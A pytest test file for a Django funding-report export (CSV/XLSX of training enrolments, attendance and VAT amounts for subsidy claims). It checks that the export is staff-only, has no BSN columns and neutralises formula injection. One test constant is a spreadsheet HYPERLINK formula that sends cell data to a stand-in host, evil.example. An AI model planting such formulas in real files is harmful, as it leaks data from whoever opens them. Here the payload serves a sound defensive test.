"""The funding report: per company and period, what a sector fund asks for a subsidy claim,
as CSV and XLSX, for hub staff only, safe to open in Excel and without any BSN."""

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone, translation

from companies.funding import report as funding_report
from companies.models import Company
from enrolment.models import Attendance, Certificate, Enrolment
from tests.factories import (
    CompanyFactory,
    CourseFactory,
    EnrolmentFactory,
    MeetingFactory,
    OfferingFactory,
    ProviderFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

MARCH = (date(2026, 3, 1), date(2026, 3, 31))


def local(*args) -> datetime:
    return timezone.make_aware(datetime(*args))


def offering_starting(first: datetime, *, meetings: int = 1, **course_fields):
    """An offering whose first meeting starts at ``first``, with weekly meetings after it."""
    course = CourseFactory(**course_fields)
    offering = OfferingFactory(course=course)
    made = []
    for week in range(meetings):
        starts_at = first + timedelta(weeks=week)
        made.append(
            MeetingFactory(
                offering=offering, starts_at=starts_at, ends_at=starts_at + timedelta(hours=8)
            )
        )
    return offering, made


@pytest.fixture
def company():
    return CompanyFactory(name="Kampstaal", slug="kampstaal", sector_fund=Company.Fund.AOM)


@pytest.fixture
def welding(company):
    """Fenna completed four-meeting TIG welding in March (present 3 times), with certificate."""
    offering, meetings = offering_starting(
        local(2026, 3, 2, 8, 30),
        meetings=4,
        title="TIG-lassen RVS",
        provider=ProviderFactory(name="Firda Emmeloord"),
        study_hours=Decimal("32"),
        price_excl_vat=Decimal("1195.00"),
    )
    learner = UserFactory(first_name="Fenna", last_name="Bakker", email="fenna@kampstaal.nl")
    enrolment = EnrolmentFactory(
        offering=offering,
        learner=learner,
        company=company,
        status=Enrolment.Status.COMPLETED,
        price_excl_vat=Decimal("1195.00"),
        vat_rate=Decimal("21.00"),
    )
    for meeting, present in zip(meetings, [True, True, False, True], strict=True):
        Attendance.objects.create(enrolment=enrolment, meeting=meeting, present=present)
    Certificate.objects.create(
        enrolment=enrolment,
        number="TH-2026-000042",
        verification_code="code-fenna",
        issued_at=local(2026, 3, 24, 12, 0),
    )
    return enrolment


def rows(company, period=MARCH):
    return funding_report.list_funding_rows(company=company, start=period[0], end=period[1])


def test_row_has_participant_course_dates_hours_attendance_certificate_and_amounts(welding):
    (row,) = rows(welding.company)

    assert row.last_name == "Bakker"
    assert row.first_name == "Fenna"
    assert row.course == "TIG-lassen RVS"
    assert row.provider == "Firda Emmeloord"
    assert (row.start, row.end) == (date(2026, 3, 2), date(2026, 3, 23))
    assert row.study_hours == Decimal("32")
    assert row.attendance == "3/4 (75 %)"
    assert row.status == "afgerond"
    assert row.certificate_number == "TH-2026-000042"
    assert row.price_excl_vat == Decimal("1195.00")
    assert row.vat_rate == Decimal("21.00")
    assert row.vat == Decimal("250.95")
    assert row.price_incl_vat == Decimal("1445.95")
    assert row.fund == "A+O Metalektro"


def test_amounts_come_from_the_enrolment_snapshot_with_vat_rounded_half_up(company):
    offering, _meetings = offering_starting(
        local(2026, 3, 10, 9, 0), price_excl_vat=Decimal("999.00")
    )
    # 9 % of 0.50 is 0.045: half up gives 0.05 (banker's rounding would give 0.04).
    EnrolmentFactory(
        offering=offering,
        company=company,
        price_excl_vat=Decimal("0.50"),
        vat_rate=Decimal("9.00"),
    )

    (row,) = rows(company)

    assert (row.price_excl_vat, row.vat, row.price_incl_vat) == (
        Decimal("0.50"),
        Decimal("0.05"),
        Decimal("0.55"),
    )


def test_row_without_certificate_or_attendance_leaves_them_plain(company):
    offering, _meetings = offering_starting(local(2026, 3, 10, 9, 0), meetings=2)
    EnrolmentFactory(offering=offering, company=company, status=Enrolment.Status.NO_SHOW)

    (row,) = rows(company)

    assert row.certificate_number == ""
    assert row.attendance == "0/2 (0 %)"
    assert row.status == "niet verschenen"


@pytest.mark.parametrize(
    ("fund", "label"),
    [
        (Company.Fund.AOM, "A+O Metalektro"),
        (Company.Fund.OOM, "OOM"),
        (Company.Fund.OTHER, "ander fonds"),
        (Company.Fund.NONE, "geen"),
    ],
)
def test_fund_label_follows_the_company(fund, label):
    company = CompanyFactory(sector_fund=fund)
    offering, _meetings = offering_starting(local(2026, 3, 10, 9, 0))
    EnrolmentFactory(offering=offering, company=company)

    (row,) = rows(company)

    assert row.fund == label


def test_period_counts_the_first_meeting_in_local_dates(company):
    # 00:30 on 1 March in Emmeloord is still 28 February in UTC: it belongs to March.
    early, _ = offering_starting(local(2026, 3, 1, 0, 30))
    last_day, _ = offering_starting(local(2026, 3, 31, 18, 0))
    # Started in February, continues in March: not in March's report.
    february, _ = offering_starting(local(2026, 2, 23, 9, 0), meetings=3)
    april, _ = offering_starting(local(2026, 4, 1, 9, 0))
    for offering in (early, last_day, february, april):
        EnrolmentFactory(offering=offering, company=company)

    found = {row.start for row in rows(company)}

    assert found == {date(2026, 3, 1), date(2026, 3, 31)}


def test_only_billable_enrolments_of_this_company(welding, company):
    offering = welding.offering
    for status in ["requested", "waitlisted", "cancelled", "rejected"]:
        EnrolmentFactory(
            offering=offering,
            company=company,
            status=status,
            waitlist_position=1 if status == "waitlisted" else None,
        )
    EnrolmentFactory(offering=offering, company=company, status=Enrolment.Status.CONFIRMED)
    EnrolmentFactory(offering=offering, company=CompanyFactory(), status=Enrolment.Status.COMPLETED)
    EnrolmentFactory(offering=offering, company=None, status=Enrolment.Status.COMPLETED)

    statuses = sorted(row.status for row in rows(company))

    assert statuses == ["afgerond", "bevestigd"]


def test_rows_are_read_with_one_query_however_many(company, welding, django_assert_num_queries):
    with django_assert_num_queries(1):
        assert len(rows(company)) == 1

    for _ in range(5):
        offering, meetings = offering_starting(local(2026, 3, 16, 9, 0), meetings=2)
        enrolment = EnrolmentFactory(offering=offering, company=company)
        Attendance.objects.create(enrolment=enrolment, meeting=meetings[0], present=True)

    with django_assert_num_queries(1):
        assert len(rows(company)) == 6


# --- The files ------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_csv_has_headers_and_values(welding):
    table = read_csv(funding_report.to_csv(rows(welding.company)))

    header, row = table
    assert header == funding_report.headers()
    record = dict(zip(header, row, strict=True))
    assert record["Achternaam"] == "Bakker"
    assert record["Startdatum"] == "2026-03-02"
    assert record["Aanwezigheid"] == "3/4 (75 %)"
    assert record["Certificaatnummer"] == "TH-2026-000042"
    assert record["Btw"] == "250,95"
    assert record["Prijs incl. btw"] == "1445,95"
    assert record["Sectorfonds"] == "A+O Metalektro"


def test_xlsx_keeps_numbers_and_dates(welding):
    header, row = read_xlsx(funding_report.to_xlsx(rows(welding.company)))

    record = dict(zip(header, row, strict=True))
    assert record["Startdatum"].date() == date(2026, 3, 2)
    assert record["Prijs incl. btw"] == pytest.approx(1445.95)
    assert record["Studie-uren"] == 32


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_text_cells_are_neutralised(company, file_format):
    offering, _meetings = offering_starting(local(2026, 3, 10, 9, 0), title="@SUM(A1:A9)")
    learner = UserFactory(first_name=HOSTILE, last_name="-1")
    EnrolmentFactory(offering=offering, company=company, learner=learner)
    report = rows(company)

    if file_format == "csv":
        header, row = read_csv(funding_report.to_csv(report))
    else:
        header, row = read_xlsx(funding_report.to_xlsx(report))

    record = dict(zip(header, row, strict=True))
    assert record["Voornaam"] == "'" + HOSTILE
    assert record["Achternaam"] == "'-1"
    assert record["Cursus"] == "'@SUM(A1:A9)"


@pytest.mark.parametrize("language", ["nl", "en"])
def test_no_bsn_anywhere_in_the_headers(welding, language):
    with translation.override(language):
        headers = funding_report.headers()
        csv_header = read_csv(funding_report.to_csv(rows(welding.company)))[0]
        xlsx_header = read_xlsx(funding_report.to_xlsx(rows(welding.company)))[0]

    for header in [*headers, *csv_header, *xlsx_header]:
        assert "bsn" not in header.lower()
        assert "burgerservice" not in header.lower()
        assert "social security" not in header.lower()


# --- The staff page -----------------------------------------------------------------------

URL = "backoffice:funding_report"


def test_staff_sees_the_form_with_this_year_as_default(client, staff_user):
    client.force_login(staff_user)

    response = client.get(reverse(URL))

    assert response.status_code == 200
    year = timezone.localdate().year
    html = response.content.decode()
    assert f'value="{year}-01-01"' in html
    assert f'value="{year}-12-31"' in html
    assert 'for="id_company"' in html
    assert 'name="format" value="xlsx"' in html


@pytest.mark.parametrize(
    ("file_format", "content_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ],
)
def test_staff_downloads_the_report(client, staff_user, welding, file_format, content_type):
    client.force_login(staff_user)

    response = client.get(
        reverse(URL),
        {
            "company": welding.company.pk,
            "start": "2026-03-01",
            "end": "2026-03-31",
            "format": file_format,
        },
    )

    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"] == (
        f'attachment; filename="subsidie-kampstaal-2026-03-01-2026-03-31.{file_format}"'
    )
    assert "no-store" in response["Cache-Control"]
    table = read_csv(response.content) if file_format == "csv" else read_xlsx(response.content)
    assert len(table) == 2
    assert "Bakker" in table[1]


def test_end_before_start_is_refused_next_to_the_field(client, staff_user, company):
    client.force_login(staff_user)

    response = client.get(
        reverse(URL),
        {"company": company.pk, "start": "2026-03-31", "end": "2026-03-01", "format": "csv"},
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "De einddatum ligt voor de begindatum." in response.content.decode()


@pytest.mark.parametrize("who", ["anonymous", "learner", "hr"])
def test_funding_report_is_for_staff_only(client, welding, who):
    if who == "learner":
        client.force_login(welding.learner)
    elif who == "hr":
        from companies.models import Membership

        hr = UserFactory()
        Membership.objects.create(user=hr, company=welding.company, role=Membership.Role.HR)
        client.force_login(hr)
    params = {
        "company": welding.company.pk,
        "start": "2026-03-01",
        "end": "2026-03-31",
        "format": "csv",
    }

    response = client.get(reverse(URL), params)

    if who == "anonymous":
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))
    else:
        assert response.status_code == 403


def test_funding_report_refuses_post(client, staff_user):
    client.force_login(staff_user)

    assert client.post(reverse(URL)).status_code == 405
